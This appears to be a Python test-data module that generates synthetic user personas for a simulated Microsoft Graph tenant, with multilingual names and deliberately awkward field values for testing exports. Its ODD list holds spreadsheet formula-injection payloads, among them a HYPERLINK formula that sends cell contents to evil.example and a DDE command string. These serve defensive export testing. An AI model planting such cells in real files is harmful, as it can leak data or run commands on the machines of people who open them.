@@ -1,0 +1,475 @@
+"""What the people of the simulated tenant are like: names of many scripts, and personas.
+
+A **persona** is a user with the person left out: a JSON text per Graph property in which `%(given)s`, `%(upn)s`,
+`%(created)s`... stand for what is a person's own (see `directory.facts`). A tenant of a million users shares 2,048
+personas, so that a user costs a few bytes until a page shows it, and a row costs one `%`. Awkward cells (formulas,
+quotes, line breaks, empty texts, nulls) are in the personas on purpose: they are what an export gets wrong.
+"""
+
+# ruff: noqa: RUF001 - the letters that look like others are the point: people have such names
+import json
+import random
+import unicodedata
+from collections.abc import Sequence
+from dataclasses import dataclass
+
+PERSONAS = 2048
+TENANT = "contoso.onmicrosoft.com"
+
+
+@dataclass(frozen=True, slots=True)
+class Culture:
+    """Where a person comes from; `given` and `surnames` are pairs: as written, and in letters of a UPN."""
+
+    country: str
+    usage: str
+    language: str
+    phone: str
+    domain: str
+    given: tuple[tuple[str, str], ...]
+    surnames: tuple[tuple[str, str], ...]
+    streets: tuple[str, ...]
+    city: str
+    state: str | None
+    postal: str
+
+
+@dataclass(frozen=True, slots=True)
+class Persona:
+    """One kind of user; `texts` holds a JSON template per property, `alias` how the UPN begins, `suffix` how it ends."""
+
+    culture: int
+    alias: str
+    suffix: str
+    texts: dict[str, str]
+    methods: str
+
+
+_LATIN: dict[str, str | int | None] = {"ß": "ss", "ø": "o", "ł": "l", "Ł": "L", "đ": "d", "Đ": "D", "ı": "i", "æ": "ae"}
+
+
+def _ascii(name: str) -> str:
+    plain = name.translate(str.maketrans(_LATIN))
+    kept = unicodedata.normalize("NFKD", plain).encode("ascii", "ignore").decode().lower()
+    return "".join(c for c in kept if c.isalnum() or c == "'")
+
+
+def _names(text: str) -> tuple[tuple[str, str], ...]:
+    """`Zoë Jan-Willem` or `Иван=ivan`; an underscore stands for a space within a name."""
+    pairs = (word.partition("=")[::2] for word in text.split())
+    return tuple((native.replace("_", " "), latin or _ascii(native)) for native, latin in pairs)
+
+
+def _culture(head: str, given: str, surnames: str, streets: Sequence[str]) -> Culture:
+    country, usage, language, phone, domain, city, state, postal = head.split("|")
+    places = (city, state or None, postal)
+    return Culture(country, usage, language, phone, domain, _names(given), _names(surnames), tuple(streets), *places)
+
+
+# Several times the same culture means more of its people: a tenant is never even, and neither are its first letters.
+CULTURES = (
+    _culture(
+        "Netherlands|NL|nl-NL|+31 20 %(d3)s %(d4)s|contoso.nl|Amsterdam|Noord-Holland|1012 AB",
+        "Anna Jan Zoë Daan Sanne Jeroen Maarten Femke Anouk Jan-Willem Sjoerd Loïs Bram Noor",
+        "de_Vries Jansen van_den_Berg Bakker Visser 't_Hart Mulder van_'t_Hoff IJsselstein Brouwer Dijkstra",
+        ["Keizersgracht 123-II", "Plein 1944 nr. 5", '\'s-Gravenhekje 1 "achterhuis"'],
+    ),
+    _culture(
+        "United States|US|en-US|+1 206555%(d4)s|contoso.com|Seattle|WA|98101",
+        "James Mary John Alice Jennifer Michael Sarah Aaron Amanda Jacob Madison Marcus Ashley Xavier Quinn",
+        "Smith Johnson Williams O'Brien Miller Davis Anderson McDonald Moore Jackson Young Zimmerman",
+        ["400 Pine St, Suite 200", "One Microsoft Way\nBuilding 34", '1 "Old" Mill Rd', "PO Box 12\r\nAttn: Mail room"],
+    ),
+    _culture(
+        "Germany|DE|de-DE|+49 30 %(d3)s%(d4)s|contoso.de|Köln|Nordrhein-Westfalen|50667",
+        "Jürgen Anja Lukas Käthe Sönke Martina Stefan Sabine Matthias Jörg Änne",
+        "Müller Schmidt Groß Weiß Schäfer von_der_Heide Köhler Öztürk Meyer Jäger",
+        ["Große Straße 7", "Straße des 17. Juni 135", "Hof 3; Hinterhaus"],
+    ),
+    _culture(
+        "France|FR|fr-FR|+33 1 %(d4)s %(d4)s|contoso.fr|Saint-Étienne||42000",
+        "François Zoé Chloé Benoît Anaïs Jean-Luc Hélène Maëlle Mathis Jérôme",
+        "D'Arcy L'Hôpital Lefèvre Garçon Noël Dubois Moreau Œuvrard=oeuvrard",
+        ["12 bis, rue de l'Église", "ZA « Les Prés », lot n° 4"],
+    ),
+    _culture(
+        "Poland|PL|pl-PL|+48 22 %(d3)s %(d4)s|contoso.com|Łódź||90-001",
+        "Łukasz Agnieszka Małgorzata Zbigniew Żaneta Jarosław",
+        "Wójcik Kowalski Ćwikła Łuczak Źrebiec Nowak",
+        ["ul. Święty Marcin 5/7"],
+    ),
+    _culture(
+        "Türkiye|TR|tr-TR|+90 212 %(d3)s %(d4)s|contoso.com|İstanbul||34000",
+        "İbrahim=ibrahim Ayşe Çağla Işıl=isil Mehmet Gökhan",
+        "Yılmaz Şahin Öztürk Çelik Ağaoğlu",
+        ["Bağdat Cad. No:5/İ"],
+    ),
+    _culture(
+        "Greece|GR|el-GR|+30 210 %(d3)s %(d4)s|contoso.com|Αθήνα||105 57",
+        "Μαρία=maria Γιώργος=giorgos Ελένη=eleni Άρης=aris",
+        "Παπαδόπουλος=papadopoulos Ωνάσης=onasis Γεωργίου=georgiou",
+        ["Οδός Ερμού 1"],
+    ),
+    _culture(
+        "Ukraine|UA|uk-UA|+380 44 %(d3)s %(d4)s|contoso.com|Київ||01001",
+        "Іван=ivan Анна=anna Юрій=yurii Їлена=yilena Марія=mariia",
+        "Шевченко=shevchenko Ґонта=gonta Коваль=koval Щербак=shcherbak",
+        ["вул. Хрещатик, 22"],
+    ),
+    _culture(
+        "Egypt|EG|ar-EG|+20 2 %(d4)s%(d4)s|contoso.com|القاهرة||11511",
+        "محمد=mohamed فاطمة=fatima أحمد=ahmed ليلى=layla",
+        "المصري=elmasry حسن=hassan عبد_الله=abdallah",
+        ["١٢ شارع التحرير"],
+    ),
+    _culture(
+        "Israel|IL|he-IL|+972 3 %(d3)s%(d4)s|contoso.com|תל אביב-יפו||6100000",
+        "נועה=noa דוד=david יעל=yael אורי=uri",
+        "כהן=cohen לוי=levi בן־דוד=bendavid",
+        ["רח' דיזנגוף 50"],
+    ),
+    _culture(
+        "India|IN|hi-IN|+91 11 %(d4)s %(d4)s|contoso.in|मुंबई|महाराष्ट्र|400001",
+        "आरव=aarav प्रिया=priya अनन्या=ananya राहुल=rahul संजय=sanjay मीरा=meera",
+        "शर्मा=sharma पटेल=patel गुप्ता=gupta सिंह=singh",
+        ["प्लॉट 7, एम.जी. रोड"],
+    ),
+    _culture(
+        "China|CN|zh-CN|+86 10 %(d4)s %(d4)s|contoso.com|北京市||100000",
+        "伟=wei 秀英=xiuying 敏=min 静=jing 磊=lei",
+        "王=wang 李=li 张=zhang 𠮷=ji 欧阳=ouyang",
+        ["朝阳区建国路88号"],
+    ),
+    _culture(
+        "Japan|JP|ja-JP|+81 3 %(d4)s %(d4)s|contoso.jp|東京都|東京都|100-0001",
+        "さくら=sakura 健太=kenta ミカ=mika 翔=sho",
+        "髙橋=takahashi 佐藤=sato 渡邉=watanabe 山﨑=yamazaki",
+        ["千代田区千代田1番1号\nビル3階"],
+    ),
+    _culture(
+        "Korea|KR|ko-KR|+82 2 %(d3)s %(d4)s|contoso.com|서울특별시||03000",
+        "민준=minjun 서연=seoyeon 지우=jiwoo",
+        "김=kim 이=lee 박=park 최=choi",
+        ["세종대로 209"],
+    ),
+    _culture(
+        "Spain|ES|es-ES|+34 91 %(d3)s %(d4)s|contoso.es|A Coruña||15001",
+        "María José Íñigo Ángel Begoña Martín Joaquín",
+        "García_Márquez Núñez de_la_Cruz Peña Ibáñez Martínez",
+        ["C/ Mayor, 3, 2.º B"],
+    ),
+    _culture(
+        "Vietnam|VN|vi-VN|+84 24 %(d4)s %(d4)s|contoso.com|Hà Nội||100000",
+        "Thị_Ánh Đức Hương Quỳnh",
+        "Nguyễn Trần Đặng Phạm",
+        ["Số 5, phố Huế"],
+    ),
+    _culture(
+        "Thailand|TH|th-TH|+66 2 %(d3)s %(d4)s|contoso.com|กรุงเทพฯ||10200",
+        "สมชาย=somchai มาลี=malee",
+        "ใจดี=jaidee ศรีสุข=srisuk",
+        ["ถนนพระราม ๔"],
+    ),
+    _culture(
+        "Denmark|DK|da-DK|+45 %(d4)s%(d4)s|contoso.com|København||1050",
+        "Søren Åse Mette Jørgen Bjørn",
+        "Sørensen Ærø Østergaard Madsen",
+        ["Nyhavn 1, 2. tv"],
+    ),
+)
+_SHARES = (22, 26, 9, 6, 4, 4, 2, 4, 4, 2, 8, 7, 4, 3, 6, 3, 1, 2)
+
+DEPARTMENTS = (
+    "Finance",
+    "R&D",
+    "IT",
+    "Sales",
+    "HR, Payroll & Benefits",
+    "Support",
+    "Légal",
+    "生産管理",
+    "Отдел кадров",
+    "Operations/Logistics",
+)
+TITLES = (
+    "Engineer",
+    "Manager",
+    "Head of 'Special' Projects",
+    'Lead "Cloud" Architect',
+    "Analyst",
+    "Geschäftsführer",
+    "部長",
+    "Nurse",
+    "Teacher",
+    "Consultant; freelance",
+)
+COMPANIES = (
+    "Contoso",
+    "Contoso, Ltd.",
+    'Fabrikam "North"',
+    "Adventure Works GmbH & Co. KG",
+    "ООО «Ромашка»",
+    "株式会社サンプル",
+)
+OFFICES = ("18/2111", "Room #4", "Bldg 1, floor 2", "-1 (basement)", "HQ\tEast", "3.04")
+# What a spreadsheet takes for a formula (CWE-1236), and what a careless CSV writer breaks on.
+ODD = (
+    "=1+1",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+31 only",
+    "-",
+    "@SUM(A1:A9)",
+    "\tindented",
+    "=cmd|' /C calc'!A0",
+    "\rreturn",
+    "-2+3+cmd",
+    'a "quoted", text',
+    "two\nlines",
+    " spaces ",
+    "100%% sure",
+    "null",
+    "#N/A",
+    "'=apostrophe",
+    "＝full width",
+    "naïve 😀 emoji",
+    "\\back\\slash",
+)
+
+_ALIASES = (
+    ("{g}.{s}",) * 9
+    + ("{G}.{S}",) * 5
+    + ("{g1}{s}",) * 4
+    + ("{g}",) * 2
+    + ("{s}_{g}", "{s}{g1}", "{g}-{s}", "{n}", "{n}")
+)
+# Legal in a UPN and no letter: a split by first letter without a catch-all loses these people.
+_ODD_ALIASES = ("_svc-{g}", "#room.{s}", "~{g}", "'{s}", "-{g}.{s}", "!{g}", "^{s}", "_{n}", "7{g}")
+_RAW = ("created", "refreshed")
+
+
+def personas(seed: int, b2c: bool = False) -> list[Persona]:
+    """The `PERSONAS` personas of a tenant, the same for the same seed."""
+    rng = random.Random(f"personas {seed}")
+    return [_persona(rng, b2c) for _ in range(PERSONAS)]
+
+
+def _maybe(
+    rng: random.Random, values: Sequence[str], null: float = 0.15, empty: float = 0.01, odd: float = 0.03
+) -> str | None:
+    chance = rng.random()
+    if chance < null:
+        return None
+    if chance < null + empty:
+        return ""
+    if chance < null + empty + odd:
+        return rng.choice(ODD)
+    return rng.choice(values)
+
+
+def _persona(rng: random.Random, b2c: bool) -> Persona:
+    culture = rng.choices(range(len(CULTURES)), _SHARES)[0]
+    kind = "local" if b2c else rng.choices(("cloud", "synced", "guest", "minor", "service"), (40, 36, 15, 6, 3))[0]
+    here = CULTURES[culture]
+    guest, synced = kind == "guest", kind == "synced"
+    home = (
+        rng.choice(("fabrikam.com", "gmail.com", "outlook.com", "adatum.co.uk", "wingtip-toys.example"))
+        if guest
+        else here.domain
+    )
+    alias = rng.choice(_ODD_ALIASES if rng.random() < 0.02 else _ALIASES)
+    suffix = f"_{home}#EXT#@{TENANT}" if guest else f"@{home if rng.random() < 0.9 else TENANT}"
+    if b2c:
+        alias, suffix = "{u}", f"@{TENANT}"
+    values = {
+        **_names_of(rng, kind, culture, home),
+        **_work(rng, here),
+        **_account(rng, kind, home, alias),
+        "onPremisesSyncEnabled": True if synced else rng.choice((None, None, None, False)),
+        "onPremisesSamAccountName": "%(sam)s" if synced else None,
+        "onPremisesDomainName": "corp.contoso.com" if synced else None,
+        "onPremisesDistinguishedName": "CN=%(surname)s\\, %(given)s,OU=Users,DC=corp,DC=contoso,DC=com"
+        if synced
+        else None,
+        "onPremisesImmutableId": "%(immutable)s==" if synced else None,
+        "onPremisesLastSyncDateTime": "2026-%(md)sT04:00:00Z" if synced else None,
+    }
+    texts = {name: _template(value) for name, value in values.items()}
+    return Persona(culture, alias, suffix, texts, _methods(rng, here, kind))
+
+
+def _template(value: object) -> str:
+    text = json.dumps(value, ensure_ascii=False, separators=(",", ":"))
+    for name in _RAW:  # these bring their own quotes, or are null
+        text = text.replace(f'"%({name})s"', f"%({name})s")
+    return text
+
+
+def _names_of(rng: random.Random, kind: str, culture: int, home: str) -> dict[str, object]:
+    here = CULTURES[culture]
+    eastern = here.usage in ("CN", "JP", "KR", "VN")
+    usual = "%(surname)s %(given)s" if eastern else "%(given)s %(surname)s"
+    shown = rng.choice(
+        (usual,) * 14
+        + (
+            "%(surname)s, %(given)s",
+            '%(given)s "Bob" %(surname)s',
+            "%(given)s %(surname)s (Contoso)",
+            "%(surname)s %(given)s",
+        )
+    )
+    if rng.random() < 0.03:
+        shown = rng.choice(
+            (
+                "=%(given)s+%(surname)s",
+                "+%(given)s",
+                "-%(surname)s",
+                "@%(given)s %(surname)s",
+                "\t%(given)s",
+                "%(given)s\n%(surname)s",
+            )
+        )
+    bare = kind == "service"
+    mail = {"guest": f"%(alias)s@{home}", "service": None, "local": None}.get(kind, f"%(alias)s@{here.domain}")
+    if rng.random() < 0.08:
+        mail = None
+    others = rng.choice(([], [], ["%(sam)s@gmail.example"], ["%(sam)s@gmail.example", "o'%(sam)s+x@privé.example"]))
+    return {
+        "id": "%(id)s",
+        "userPrincipalName": "%(upn)s",
+        "displayName": "Service account %(sam)s" if bare else shown,
+        "givenName": None if bare or rng.random() < 0.05 else "%(given)s",
+        "surname": None if bare or rng.random() < 0.05 else "%(surname)s",
+        "mail": mail,
+        "mailNickname": "%(alias)s",
+        "otherMails": [mail] if kind == "guest" and mail else others,
+        "proxyAddresses": [f"SMTP:{mail}", "smtp:%(sam)s@" + TENANT] if mail and kind != "guest" else [],
+        "imAddresses": [mail] if mail and kind == "cloud" else [],
+        "createdDateTime": "%(created)s",
+        "preferredLanguage": rng.choice((None, here.language, here.language)),
+        "identities": _identities(rng, kind),
+    }
+
+
+def _identities(rng: random.Random, kind: str) -> list[dict[str, object]]:
+    own: dict[str, object] = {"signInType": "userPrincipalName", "issuer": TENANT, "issuerAssignedId": "%(upn)s"}
+    if kind == "guest":
+        issuer = rng.choice(("ExternalAzureAD", "MicrosoftAccount", "google.com", "mail"))
+        return [{"signInType": "federated", "issuer": issuer, "issuerAssignedId": None}, own]
+    if kind == "local":
+        return [{"signInType": "emailAddress", "issuer": TENANT, "issuerAssignedId": "%(sam)s@gmail.example"}, own]
+    return [] if rng.random() < 0.02 else [own]
+
+
+def _work(rng: random.Random, here: Culture) -> dict[str, object]:
+    mobile = rng.choice((None, "+31 6 %(d4)s%(d4)s", "+1 (425) 555-%(d4)s", here.phone, "06-%(d4)s%(d4)s", here.phone))
+    desk = rng.choice(([], [here.phone], [here.phone], [here.phone + " ext. %(d3)s"], ["", here.phone]))
+    return {
+        "jobTitle": _maybe(rng, TITLES),
+        "department": _maybe(rng, DEPARTMENTS),
+        "companyName": _maybe(rng, COMPANIES, null=0.4),
+        "officeLocation": _maybe(rng, OFFICES, null=0.4),
+        "streetAddress": _maybe(rng, here.streets, null=0.3),
+        "city": _maybe(rng, (here.city,), odd=0.005),
+        "state": here.state if rng.random() < 0.8 else None,
+        "postalCode": _maybe(rng, (here.postal,), odd=0),
+        "country": _maybe(rng, (here.country,), odd=0),
+        "usageLocation": rng.choice((here.usage, here.usage, None)),
+        "mobilePhone": mobile,
+        "businessPhones": desk,
+        "faxNumber": rng.choice((None, None, None, here.phone)),
+        "employeeId": rng.choice(("%(number)s", "%(number)s", "E-00%(d4)s", None)),
+        "employeeType": rng.choice(("Employee", "Contractor", "Vendor", None)),
+        "employeeHireDate": rng.choice((None, "2019-%(md)sT00:00:00Z")),
+    }
+
+
+def _account(rng: random.Random, kind: str, home: str, alias: str) -> dict[str, object]:
+    guest, minor = kind == "guest", kind == "minor"
+    group: str | None = None
+    consent: str | None = None
+    legal: str | None = None
+    if minor:
+        group, consent = "Minor", rng.choice(("Granted", "Denied", "NotRequired", None))
+        known = {"Granted": "MinorWithParentalConsent", "NotRequired": "MinorNoParentalConsentRequired"}
+        legal = known.get(consent or "", "MinorWithoutParentalConsent")
+    elif rng.random() < 0.1:
+        group = legal = rng.choice(("Adult", "NotAdult"))
+    return {
+        "userType": "Guest" if guest else rng.choices(("Member", None), (97, 3))[0],
+        "accountEnabled": rng.random() < 0.88,
+        "creationType": {"guest": "Invitation", "local": "LocalAccount"}.get(kind),
+        "externalUserState": rng.choice(("Accepted", "Accepted", "PendingAcceptance")) if guest else None,
+        "externalUserStateChangeDateTime": "2024-%(md)sT09:30:00Z" if guest else None,
+        "ageGroup": group,
+        "consentProvidedForMinor": consent,
+        "legalAgeGroupClassification": legal,
+        "isResourceAccount": None,
+        "showInAddressList": rng.choice((None, True, False)),
+        "passwordPolicies": rng.choice((None, None, "DisablePasswordExpiration")),
+        "lastPasswordChangeDateTime": "2025-%(md)sT07:45:00Z",
+        "signInSessionsValidFromDateTime": "2025-%(md)sT07:45:00Z",
+        "refreshTokensValidFromDateTime": "2025-%(md)sT07:45:00Z",
+        "signInActivity": rng.choice(
+            (
+                None,
+                {
+                    "lastSignInDateTime": "2026-%(md)sT08:15:00Z",
+                    "lastNonInteractiveSignInDateTime": "2026-%(md)sT11:02:37Z",
+                    "lastSuccessfulSignInDateTime": "2026-%(md)sT08:15:00Z",
+                },
+            )
+        ),
+    }
+
+
+PHONE_IDS = {
+    "mobile": "3179e48a-750b-4051-897c-87b9720928f7",
+    "alternateMobile": "b6332ec1-7057-4abe-9331-3d72feddfe41",
+    "office": "e37fc753-ff3b-4958-9484-eaa9425c82bc",
+}
+EMAIL_ID = "3ddfcfc8-9383-446f-83cc-3ab9be4be18f"
+PASSWORD_ID = "28c10230-6103-485e-b985-444c60001490"  # noqa: S105 - the fixed id of the method, no secret
+
+
+def _methods(rng: random.Random, here: Culture, kind: str) -> str:
+    """The sign-in methods of a persona, as the `value` of `/authentication/methods`."""
+    methods: list[dict[str, object]] = [
+        {
+            "@odata.type": "#microsoft.graph.passwordAuthenticationMethod",
+            "id": PASSWORD_ID,
+            "password": None,
+            "createdDateTime": None,
+        }
+    ]
+    numbers = {"mobile": "+31 6%(d4)s%(d4)s", "alternateMobile": "+1 206555%(d4)s", "office": "+1 425555%(d4)sx%(d3)s"}
+    for phone, share in (("mobile", 0.6), ("alternateMobile", 0.15), ("office", 0.1)):
+        if rng.random() < share:
+            state = "ready" if phone == "mobile" else "notSupported"
+            own = {"id": PHONE_IDS[phone], "phoneNumber": numbers[phone], "phoneType": phone, "smsSignInState": state}
+            methods.append({"@odata.type": "#microsoft.graph.phoneAuthenticationMethod", **own})
+    if rng.random() < 0.3:
+        own = {"id": EMAIL_ID, "emailAddress": "%(sam)s@gmail.example"}
+        methods.append({"@odata.type": "#microsoft.graph.emailAuthenticationMethod", **own})
+    if kind == "cloud":
+        own = {"id": "%(id)s", "displayName": f"{here.usage} phone"}
+        methods.append({"@odata.type": "#microsoft.graph.microsoftAuthenticatorAuthenticationMethod", **own})
+    rng.shuffle(methods)
+    return _template(methods)
+
+
+# Every user property that $select takes: those of the personas.
+PROPERTIES = tuple(personas(0)[0].texts)
+# What comes back without $select.
+DEFAULTS = (
+    "businessPhones",
+    "displayName",
+    "givenName",
+    "id",
+    "jobTitle",
+    "mail",
+    "mobilePhone",
+    "officeLocation",
+    "preferredLanguage",
+    "surname",
+    "userPrincipalName",
+)
